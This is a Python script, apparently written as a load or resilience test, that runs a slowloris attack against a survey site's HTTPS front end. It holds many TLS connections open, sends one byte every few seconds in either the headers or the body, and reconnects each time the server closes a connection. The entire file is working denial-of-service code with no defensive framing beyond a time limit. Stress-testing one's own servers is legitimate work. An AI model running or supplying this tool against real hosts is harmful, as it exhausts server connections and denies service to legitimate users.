"""Clients that send their request a byte at a time and read nothing (slowloris); run as a script.

Half of them dwell on the header, half on the body. Each that is closed comes again, until the script is ended.
"""

import json
import socket
import ssl
import sys
import time
from contextlib import suppress
from dataclasses import dataclass

HEADER = b"POST /s/q26 HTTP/1.1\r\nHost: survey.example\r\nContent-Type: application/octet-stream\r\n"
PACE = 4.0
"""Seconds between two bytes of one client: less than any timeout of the front."""
LONGEST = 300.0
"""Seconds after which the script ends by itself."""


@dataclass
class Slow:
    """One slow client."""

    body: bool
    trusted: str
    connection: ssl.SSLSocket | None = None

    def come(self) -> None:
        """Connect, and send what comes before the slow part."""
        plain = socket.create_connection(("survey.example", 443), timeout=5)
        context = ssl.create_default_context(cafile=self.trusted)
        self.connection = context.wrap_socket(plain, server_hostname="survey.example")
        self.connection.sendall(HEADER + b"Content-Length: 9000\r\n\r\n" * self.body)
        self.connection.setblocking(False)

    def dwell(self) -> None:
        """Send one byte more; come again where the front has closed."""
        try:
            if self.connection is None:
                self.come()
            elif self.connection.recv(1) == b"":
                self.leave()
        except ssl.SSLWantReadError:
            with suppress(OSError):
                self.connection.send(b"x")
        except OSError:
            self.leave()

    def leave(self) -> None:
        """Close the connection."""
        if self.connection is not None:
            self.connection.close()
        self.connection = None


def main(number: int, trusted: str) -> None:
    """Hold so many connections; say in each round how many are open."""
    clients = [Slow(place % 2 == 0, trusted) for place in range(number)]
    ends = time.monotonic() + LONGEST
    while time.monotonic() < ends:
        began = time.monotonic()
        for client in clients:
            client.dwell()
        print(sum(client.connection is not None for client in clients), flush=True)
        time.sleep(max(0.0, PACE - (time.monotonic() - began)))


if __name__ == "__main__":
    main(*json.loads(sys.argv[1]))
